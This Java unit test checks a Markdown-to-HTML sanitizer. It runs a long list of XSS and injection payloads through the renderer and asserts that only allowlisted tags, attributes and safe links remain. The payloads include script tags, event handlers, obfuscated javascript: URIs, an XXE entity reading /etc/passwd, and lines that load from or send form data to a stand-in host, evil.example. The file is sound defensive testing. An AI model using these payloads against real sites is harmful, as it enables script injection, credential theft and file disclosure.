package io.hatoba.web.markup;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Element;

/** Whatever is written, only what says something is left of it. */
class HostileMarkupTest {
  private static final Set<String> ELEMENTS =
      Set.of(
          "p",
          "div",
          "br",
          "hr",
          "h2",
          "h3",
          "h4",
          "h5",
          "h6",
          "blockquote",
          "pre",
          "ul",
          "ol",
          "li",
          "dl",
          "dt",
          "dd",
          "details",
          "summary",
          "table",
          "thead",
          "tbody",
          "tr",
          "th",
          "td",
          "em",
          "strong",
          "b",
          "i",
          "del",
          "s",
          "ins",
          "mark",
          "small",
          "q",
          "a",
          "sub",
          "sup",
          "code",
          "kbd",
          "samp",
          "var");
  private static final Set<String> ATTRIBUTES =
      Set.of("href", "rel", "id", "class", "align", "start");

  private static void assertHarmless(SafeHtml html) {
    for (Element element : Fragment.of(html).elements()) {
      assertThat(ELEMENTS).as(html.toString()).contains(element.getTagName());
      assertThat(ATTRIBUTES).as(html.toString()).containsAll(Fragment.attributes(element));
      if (element.hasAttribute("href")) {
        assertThat(element.getAttribute("href"))
            .matches("(?i)(https?://|mailto:|#user-content-)[^\\s\\p{C}\"<>\\\\]+");
        assertThat(element.getAttribute("rel")).contains("noopener", "noreferrer", "nofollow");
      }
      if (element.hasAttribute("id")) {
        assertThat(element.getAttribute("id")).startsWith("user-content-");
      }
      if (element.hasAttribute("class")) {
        assertThat(element.getAttribute("class")).matches("language-[A-Za-z0-9+#._-]+");
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\n>alert(1)</script\n>",
        "<<script>script>alert(1)<</script>/script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=`x`onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\" alt=\"<script>alert(1)</script>\">",
        "<image href=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=//evil.example/>",
        "<form action=//evil.example><input name=password><button>go</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(//evil.example)}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
        "<p class=\"modal\" id=\"main\">x</p>",
        "<h2 id=\"user-content-\" >x</h2><h2 id=\"user-content-a' onclick='x\">y</h2>",
        "<code class=\"language-a x\">x</code>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=//evil.example/a.ogg autoplay>",
        "<body onload=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><a title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><p>&e;</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"blob:https://example.com/1\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"/logout\">x</a>",
        "<a href=\"https:/\\evil.example\">x</a>",
        "<a href=\"https:javascript\">x</a>",
        "<a href=\"https://a\" target=_blank ping=//evil.example download onfocus=alert(1)>x</a>",
        "<a href='https://a/\"onmouseover=alert(1)//'>x</a>",
        "<a href=\"ｊavascript:alert(1)\">x</a>",
        "<a href=\"\u202Ejavascript:alert(1)\">x</a>",
        "<a href=\"https://exa\u200Bmple.com\">x</a>",
        "<a href=\"#\"onclick=alert(1)>x</a>",
        "<a name=main>x</a>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](<java script:alert(1)>)",
        "[x](java&#x73;cript:alert(1))",
        "[x](java\\script:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](https://a\"onmouseover=\"alert(1))",
        "[x](https://a 'y\" onmouseover=\"alert(1)')",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://a/b.png)",
        "![x](https://a/b.png\"onerror=\"alert(1))",
        "![<script>alert(1)</script>](https://a/b.png)",
        "![a](data:image/svg+xml,<svg onload=alert(1)>)",
        "```\"onmouseover=alert(1)\nx\n```",
        "```html <script>\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "# <script>alert(1)</script>\" onclick=\"x",
        "# \" autofocus onfocus=alert(1)",
        "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
        "> <script>\n> alert(1)\n> </script>",
        "<div\n\n**<img src=x onerror=alert(1)>**",
        "<p title=\"\n\n`\"><img src=x onerror=alert(1)>`",
        "\\<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<\u2028script>alert(1)</script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "</div></main></body><script>alert(1)</script>",
        "</root><script>alert(1)</script>",
        "{{constructor.constructor('alert(1)')()}} #{facesContext.externalContext} ${7*7}",
      })
  void nothingIsLeftThatDoesSomething(String hostile) {
    assertHarmless(Markdown.render(hostile));
    assertHarmless(Markdown.render("before\n\n" + hostile + "\n\nafter"));
    assertHarmless(Markdown.render("in *a " + hostile + " line*"));
    assertHarmless(Markdown.plain(hostile));
  }
}
